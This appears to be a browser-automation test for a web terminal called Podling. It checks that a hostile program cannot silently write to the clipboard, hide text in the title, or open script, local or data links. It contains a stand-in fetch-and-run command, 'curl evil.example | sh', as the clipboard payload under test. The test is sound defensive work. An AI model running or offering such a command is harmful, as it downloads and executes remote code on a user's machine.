// A program that attacks its viewer: the clipboard, links, the title. Arguments: the terminal URL and the origin.
import { strict as assert } from 'node:assert';
import { open, screenText, waitForText, shot } from './chromium.mjs';

const [url, origin] = process.argv.slice(2);
const { context, page, errors } = await open(origin, { width: 1100, height: 620 });
await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
const pages = [];
const dialogs = [];
page.on('dialog', (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());

/** Clicks the cell where a text of the screen begins. */
async function clickOn(text) {
  const place = await page.evaluate((wanted) => {
    const { term } = window.podling;
    const { active } = term.buffer;
    for (let y = 0; y < term.rows; y += 1) {
      const x = active.getLine(active.viewportY + y)?.translateToString(true).indexOf(wanted) ?? -1;
      const box = document.querySelector('.xterm-screen').getBoundingClientRect();
      if (x >= 0) return { x: box.x + ((x + 1.5) * box.width) / term.cols, y: box.y + ((y + 0.5) * box.height) / term.rows };
    }
    return null;
  }, text);
  assert.ok(place, `${text} is on the screen`);
  await page.mouse.move(place.x - 40, place.y + 60);
  await page.mouse.move(place.x, place.y, { steps: 4 });
  await page.waitForTimeout(150); // The terminal looks for links when the mouse rests.
  await page.mouse.click(place.x, place.y);
}

try {
  await page.goto(url);
  await page.evaluate(() => navigator.clipboard.writeText('mine'));
  await waitForText(page, 'go?');
  context.on('page', (opened) => pages.push(opened.url()));
  await page.keyboard.type('\n');
  await waitForText(page, 'attacked');

  await page.waitForFunction(() => !document.querySelector('#toast').hidden);
  assert.match(await page.textContent('#toast-text'), /23 characters on your clipboard: “curl evil\.example \| sh⏎”/);
  await page.click('#toast-yes'); // At once: nobody has read that.
  assert.equal(await clipboard(), 'mine', 'nothing is copied without being asked');
  await shot(page, 'hostile');
  await page.waitForTimeout(500);
  await page.click('#toast-yes');
  await page.waitForFunction(async () => (await navigator.clipboard.readText()) === 'curl evil.example | sh\n');

  assert.equal(await page.title(), 'evil nice title · Podling', 'nothing unseen is in the title');

  for (const trap of ['script', 'local', 'data']) await clickOn(`[${trap}]`);
  await clickOn('[honest]');
  const deadline = Date.now() + 10_000;
  while (pages.length === 0 && Date.now() < deadline) await page.waitForTimeout(50);
  assert.equal(pages.length, 1, `only the honest link opens a page: ${pages}`);
  assert.deepEqual(dialogs, []);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.deepEqual(await context.cookies(), [], 'no cookie was ever set');
  assert.deepEqual(errors.filter((error) => !/honest/.test(error)), [], 'the page logs no error');
} catch (error) {
  await shot(page, 'failed');
  console.error(await screenText(page), errors, pages);
  throw error;
} finally {
  await context.close();
}
